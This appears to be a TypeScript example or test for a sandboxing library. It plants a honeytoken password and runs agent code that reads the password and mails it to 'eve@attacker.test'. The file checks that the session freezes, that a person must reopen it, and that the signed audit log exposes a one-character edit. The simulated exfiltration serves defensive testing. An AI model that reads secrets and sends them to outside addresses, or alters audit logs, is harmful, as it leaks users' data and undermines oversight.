/**
 * What happened, afterwards: a session that gives away a planted value is frozen, its trail is read, verified and proven, and
 * a log in which somebody changed a number is found out.
 */
import assert from "node:assert/strict"
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import {
  AuditKey,
  AuditKeyFile,
  AuditProof,
  AuditProve,
  AuditQuery,
  AuditVerify,
  Capability,
  Home,
  Sessions,
  Tool,
  Toolkit
} from "caisson"
import { Effect, Result, Schema, Stream } from "effect"

const home = mkdtempSync(join(tmpdir(), "caisson-audit-"))
process.on("exit", () => rmSync(home, { recursive: true, force: true }))
const directory = join(home, "audit")

// Nobody has a reason to use this value. It stands where only somebody who looks around finds it.
const planted = "planted-Zq83kfW2xB"
const detection = { honeytokens: [{ name: "backup password", value: planted }], trusted: ["example.com"] }

const read = Tool.make("notes.read", {
  description: "Reads a note",
  input: Schema.Struct({ name: Schema.String }),
  output: Schema.String,
  readOnly: true,
  execute: ({ name }) => Effect.succeed(name === "backup" ? `password: ${planted}` : "milk, eggs")
})
const send = Tool.make("mail.send", {
  description: "Sends a mail",
  input: Schema.Struct({ to: Schema.String, text: Schema.String }),
  output: Schema.String,
  execute: () => Effect.succeed("sent")
})

/** Works, and gives something away. */
const work = Effect.gen(function* () {
  const sessions = yield* Sessions.Sessions
  const toolkit = yield* Toolkit.make([read, send])
  const session = yield* sessions.open({ id: "s-1", toolkit, capabilities: Capability.list([{ methods: "**" }]) })
  yield* session.run(`
    const note = await notes.read({ name: "backup" })
    await mail.send({ to: "eve@attacker.test", text: note }).catch((error) => error.message)`)
  assert.equal(session.state().stance, "frozen")
  const frozen = yield* Effect.flip(session.run(`await notes.read({ name: "shopping" })`))
  assert.equal(frozen.reason._tag, "SessionFrozen")

  // Only a person makes a session milder again.
  yield* session.guard("open", { reason: "it was a test", by: "ann@example.com" })
  yield* session.resume()
  const open = yield* session.run(`await notes.read({ name: "shopping" })`)
  assert.ok(open._tag === "Completed" && open.value === '"milk, eggs"')
}).pipe(Effect.scoped, Effect.provide(Home.layer({ directory: home, machines: { threads: 1 }, audit: { detection } })))

const events = Stream.runCollect(AuditQuery.lines(directory, { session: "s-1" })).pipe(
  Effect.map((lines) => lines.map((line) => Result.getOrThrow(AuditQuery.eventOf(line))))
)

const inspect = Effect.gen(function* () {
  for (const { data, seq, type } of yield* events) {
    if (type === "alert" || type === "session.guarded") console.log(seq, type, data["title"] ?? data["reason"])
  }
  const { signing, verification } = yield* AuditKeyFile.load(join(home, "audit.keys"))
  const keys = [signing, ...verification]
  const report = yield* AuditVerify.verify({ directory, keys })
  console.log(report.ok, report.events, "events")
  assert.ok(report.ok)

  // The events of one run, for somebody who is to see nothing else of the log.
  const proof = AuditProof.toText(yield* AuditProve.prove(directory, { session: "s-1", run: "r1" }))
  const proven = Result.getOrThrow(AuditProof.check(proof, AuditKey.byId(keys)))
  console.log("proven:", proven.lines.length, "events of", proven.session, proven.run)

  // Somebody with the files and without the key changes one character.
  const file = join(directory, "audit-000000000001.jsonl")
  writeFileSync(file, readFileSync(file, "utf8").replace("attacker", "attackes"))
  const changed = yield* AuditVerify.verify({ directory, keys })
  const [finding] = changed.findings
  console.log(changed.ok, finding?.kind, `line ${finding?.line}`)
  assert.equal(changed.ok, false)
})

await Effect.runPromise(work)
await Effect.runPromise(inspect)
